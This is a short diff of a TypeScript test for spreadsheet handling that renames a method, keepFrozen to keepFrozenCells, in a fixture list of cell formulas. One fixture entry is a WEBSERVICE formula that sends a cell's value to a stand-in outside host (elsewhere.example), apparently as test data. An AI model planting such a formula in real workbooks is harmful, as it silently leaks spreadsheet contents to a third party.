@@ -445,7 +445,7 @@ describe("Excel's sheets", () => {
     workbook.set("Sheet1", 0, 4, "x");
     const entry = (place: readonly number[], formula: string, shows: unknown) =>
       ["old", "1", "Ali", "Sheet1", ...place.map(String), formula, JSON.stringify(shows), "{1}"] as const;
-    await sheets.keepFrozen([
+    await sheets.keepFrozenCells([
       entry([0, 1, 3, 1], "=SHARIAH.STATUS(A1:A3)", verdicts[0]),
       entry([0, 4, 1, 1], '=WEBSERVICE("https://elsewhere.example/?"&A1)', "x"),
       entry([5, 5, 1, 1], "=SHARIAH.STATUS(A1)", "gone since"),
